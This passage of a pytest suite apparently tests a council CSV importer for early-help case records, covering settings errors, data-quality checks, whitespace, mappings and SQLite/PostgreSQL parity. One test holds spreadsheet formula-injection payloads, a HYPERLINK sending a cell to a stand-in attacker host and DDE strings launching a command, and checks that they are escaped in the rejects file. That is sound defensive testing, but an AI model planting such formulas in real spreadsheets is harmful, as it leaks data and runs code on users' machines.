        "EXPLAIN QUERY PLAN SELECT count(*) FROM episodes WHERE start_date >= '2026-01-01'"))
    assert "episodes_by_start" in plan
    assert known.conn.execute("SELECT count(*) FROM episodes WHERE start_date >= '2026-01-01'"
                              ).fetchone()[0] == 1200


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_rejects_file_writes_formulas_as_text_and_negative_numbers_as_numbers(known, tmp_path):
    rows = [HEADER,
            ["EHM1", FORMULA, "", COUNCIL, "", "", "", "", "@SUM(1+1)*cmd|' /C calc'!A0", ""],
            ["EHM2", "-7", "", COUNCIL, "", "", "", "", "-2+3+cmd|' /C calc'!A0", "-1.5"]]
    s = cases.import_episodes(known, write_csv(tmp_path / "e.csv", rows), rejects_dir=tmp_path,
                              today=TODAY)
    assert s.rejected == 2
    rejects = {r["row"]: r for r in read_rejects(s.rejects_file)}
    assert rejects["2"]["value"] == "'" + FORMULA
    assert rejects["2"]["START DATE"] == "'" + FORMULA
    assert rejects["2"]["Child name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rejects["3"]["value"] == rejects["3"]["START DATE"] == "-7"  # a number stays one
    assert rejects["3"]["Date of Birth"] == "-1.5"
    assert rejects["3"]["Child name"] == "'-2+3+cmd|' /C calc'!A0"
    for r in rejects.values():
        assert not any(v.startswith(("=", "@", "+")) for v in r.values())
    assert list(tmp_path.glob(".*.part")) == []  # written whole, then moved into place


def test_a_began_or_ended_code_the_store_does_not_keep_is_a_settings_mistake_said_so(
        known, tmp_path, monkeypatch, capsys):
    council = tmp_path / "council.toml"
    council.write_text('[episodes.ended_as]\nmoved_to_another_la = "Moved to another council"\n',
                       encoding="utf-8")
    monkeypatch.setenv("EHKIT_SETTINGS", str(council))
    path = write_csv(tmp_path / "e.csv", [
        ["EHM number", "Start date", "End date", "Lead agency", "Ended as"],
        ["EHM1", "01/02/2026", "01/03/2026", COUNCIL, "Moved to another council"]])
    db_file = where(known)
    assert cli.main(["import", "episodes", str(path), "--db", db_file,
                     "--rejects-dir", str(tmp_path)]) == 2
    assert capsys.readouterr().err == (
        f"ehkit: error: settings [episodes] ended_as (in {council}) has "
        "'moved_to_another_la', which is not one of the codes the store keeps: "
        "outcomes_achieved, stepped_up, stepped_down_universal, disengaged, moved_away, other. "
        "The codes are fixed (the figures count them): change only their labels\n")
    assert known.execute("SELECT count(*) FROM episodes").fetchone()[0] == 0


def test_an_agency_left_in_a_sector_the_settings_renamed_is_found_by_check(
        db, tmp_path, monkeypatch, renamed_sectors):
    from ehkit import check

    with store.transaction(db):
        db["agencies"].insert_all([
            {"name": "Moss Lane Clinic", "kind": "partner", "sector": "Health"},  # the old name
            {"name": "Kettlewade Academy", "kind": "partner", "sector": "Education"}])
    found = [f for f in check.data_quality(db) if f.code == "DQ-SECTOR"]
    assert [(f.where, f.message) for f in found] == [(
        "agencies id 1 (Moss Lane Clinic)",
        "sector 'Health' is not one of the settings' sectors (Health and Wellbeing, Education, "
        "Youth Justice, Other agencies): import the agencies again with their sector now, or "
        "add it back to the settings")]
    rows = [["Name", "Kind", "Sector"], ["Moss Lane Clinic", "Partner", "Health and Wellbeing"]]
    s = cases.import_agencies(db, write_csv(tmp_path / "a.csv", rows), rejects_dir=tmp_path)
    assert counts(s) == (1, 0, 1, 0, 0)
    assert [f for f in check.data_quality(db) if f.code == "DQ-SECTOR"] == []


@pytest.mark.parametrize("text", [
    "EHM7, 2026-01-05,{agency}\r\n",  # a space after a delimiter
    "EHM7 ,2026-01-05,{agency} \r\n",  # before a delimiter, before a line end
    '"EHM7\t",2026-01-05,"{agency}"\r\n',  # a tab, quoted
    '"\nEHM7",2026-01-05,{agency}\r\n',  # a line end inside a quoted cell
    "\xa0EHM7,2026-01-05,{agency}\r\n",  # a no-break space
    "EHM7,2026-01-05,{agency}\r\n",  # none: the cells are read as they are
])
def test_every_csv_cell_is_read_trimmed_whatever_whitespace_its_text_holds(known, tmp_path,
                                                                          text):
    path = tmp_path / "export.csv"
    path.write_text("EHM number,Start date,Lead agency\r\n" + text.format(agency=COUNCIL),
                    encoding="utf-8", newline="")
    s = cases.import_episodes(known, path, rejects_dir=tmp_path, today=TODAY)
    assert counts(s) == (1, 1, 0, 0, 0), s.problems
    row = episodes_in(known)["EHM7"]
    assert (row["start_date"], row["lead_agency_id"]) == ("2026-01-05", 1)


def as_logged(value):
    """A change log's old or new value as Python: SQLite keeps JSON text (or a field's plain
    text), PostgreSQL jsonb, which psycopg reads as Python already."""
    if isinstance(value, str):
        with contextlib.suppress(ValueError):
            value = json.loads(value)
    if isinstance(value, dict):  # an import's record: when it was made differs, of course
        value.pop("imported_at", None)
    return value


def test_an_import_writes_the_same_rows_rejects_and_change_log_on_both_back_ends(
        tmp_path, pg_server, monkeypatch):
    """The same files into a SQLite store and a PostgreSQL one: the same episodes and
    children (ids too), the same rejects file, and a change log that names the same person
    for the same changes (a bulk insert, then updates)."""
    monkeypatch.setenv("EHKIT_LOGIN", "data.officer")
    first = [HEADER,
             ["EHM1", "31/01/2026", "", COUNCIL, "Ada Applebridge", "", "", "",
              "Isla Kettlewade", "02/03/2019"],
             ["EHM2", "01/02/2026", "", SCHOOL, "", "", "", "", "Kit Moss", "01/01/2020"],
             ["EHM3", "31/02/2026", "", SCHOOL, "", "", "", "", "Gus Larkspindle", ""],
             ["EHM4", "01/02/2026", "", "Nowhere Agency", "", "", "", "", "", ""]]
    second = [row[:] for row in first]
    second[1][2], second[1][7] = "30/06/2026", "Outcomes achieved"
    second[2][9] = "02/01/2020"
    second.append(["EHM2", "01/02/2026", "", SCHOOL, "", "", "", "", "Kai Moss", "05/05/2022"])
    seen = []
    for target in (tmp_path / "ehkit.db", pg_server.new_database()):
        db = store.connect(target)
        add_known(db)
        (logged,) = db.execute("SELECT max(id) FROM change_log").fetchone()
        out = tmp_path / ("pg" if store.is_postgres(db) else "sqlite")
        out.mkdir()
        summaries = [counts(cases.import_episodes(
            db, write_csv(out / f"export-{n}.csv", rows), rejects_dir=out, today=TODAY))
            for n, rows in enumerate((first, second))]
        tables = {t: [tuple(r.values()) for r in db.query(f"SELECT * FROM {t} ORDER BY id")]
                  for t in ("episodes", "children", "agencies")}
        log = [(r["user"], r["table_name"], r["row_key"], r["field"],
                *map(as_logged, (r["old"], r["new"])))
               for r in db.query('SELECT "user", table_name, row_key, field, old, new FROM '
                                 "change_log WHERE id > ? ORDER BY id", [logged])]
        imports = [(r["kind"], r["rows_read"], r["imported_by"])
                   for r in db.query("SELECT * FROM imports ORDER BY id")]
        rejects = sorted(p.read_text(encoding="utf-8-sig") for p in out.glob("*-rejects.csv"))
        seen.append((summaries, tables, log, imports, rejects))
        db.close()
    assert seen[0] == seen[1]
    summaries, tables, log, imports, rejects = seen[0]
    assert summaries == [(4, 2, 0, 0, 2), (5, 1, 2, 0, 2)]
    assert len(tables["children"]) == 3 and len(rejects) == 2
    assert {entry[0] for entry in log} == {"data.officer"} and len(log) >= 4
    assert imports == [("episodes", 4, "data.officer"), ("episodes", 5, "data.officer")]


def test_a_mapping_to_a_value_the_store_does_not_know_rejects_the_row_saying_so(
        known, tmp_path):
    """The mapping file's word is checked as the export's own words are: a row it maps to
    no value of the store's is rejected with the reason, the others imported (never the
    store's own CHECK refusal, which would end the whole import in its words)."""
    mapping = tmp_path / "ours.toml"
    mapping.write_text('[episodes.values]\nbegan_as = { "Walk-in" = "walk_in" }\n',
                       encoding="utf-8")
    rows = [["ehm_number", "start_date", "lead_agency", "began_as", "child_name"],
            ["EH-001", "01/01/2026", SCHOOL, "Walk-in", "Tam Saltmarrow"],
            ["EH-002", "01/01/2026", SCHOOL, "step_down", "Uma Saltmarrow"]]
    s = cases.import_episodes(known, write_csv(tmp_path / "ehm.csv", rows), mapping=mapping,
                              rejects_dir=tmp_path, today=TODAY)
    assert counts(s) == (2, 1, 0, 0, 1)
    assert set(episodes_in(known)) == {"EH-002"}
    (problem,) = s.problems
    assert (problem.row, problem.code, problem.field, problem.value) == (
        2, "UNKNOWN_VALUE", "began_as", "Walk-in")
    assert "walk_in" in problem.message and "mapping file" in problem.message
    assert "CHECK" not in problem.message
